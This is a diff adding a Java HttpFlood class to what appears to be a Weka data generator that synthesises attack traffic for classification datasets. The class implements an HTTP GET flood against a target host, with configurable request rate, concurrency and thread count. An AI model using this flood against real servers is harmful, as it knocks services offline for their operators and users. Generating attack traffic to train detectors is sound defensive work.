@@ -0,0 +1,67 @@
+package weka.datagenerators.classifiers.classification.pcap.attack;
+
+import java.io.IOException;
+import java.net.InetAddress;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+
+/**
+ * HTTP GET flood: each connection sends one complete GET request and reads the
+ * response until the server closes the connection, then a new connection
+ * replaces it. The attack rate is the number of requests per second.
+ */
+public class HttpFlood extends ConnectionAttack {
+
+    // Time given to the server to answer (nanoseconds)
+    private static final long RESPONSE_TIMEOUT = 10000000000L;
+
+    private final int port;
+    private byte[] request;
+
+    /**
+     * Creates an HTTP GET flood.
+     *
+     * @param port           the port of the HTTP server.
+     * @param rate           the rate of requests per second, 0 for no limit.
+     * @param maxConnections the max number of concurrent connections.
+     * @param threads        the number of selector threads.
+     */
+    public HttpFlood(int port, int rate, int maxConnections, int threads) {
+        super(rate, maxConnections, threads);
+        this.port = port;
+    }
+
+    @Override
+    public String getName() {
+        return "http";
+    }
+
+    @Override
+    protected int nextPort() {
+        return port;
+    }
+
+    @Override
+    public synchronized void start(InetAddress target) throws IOException {
+        request = ("GET / HTTP/1.1\r\n"
+                + "Host: " + target.getHostAddress() + "\r\n"
+                + "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n"
+                + "Accept: */*\r\n"
+                + "Connection: close\r\n"
+                + "\r\n").getBytes(StandardCharsets.US_ASCII);
+        super.start(target);
+    }
+
+    @Override
+    protected void onConnected(Connection connection) throws IOException {
+        // The request is counted with the connection attempt
+        write(connection, ByteBuffer.wrap(request));
+    }
+
+    @Override
+    protected void onTick(Connection connection, long now) {
+        if (now - connection.getOpenedAt() >= RESPONSE_TIMEOUT) {
+            close(connection, true);
+        }
+    }
+}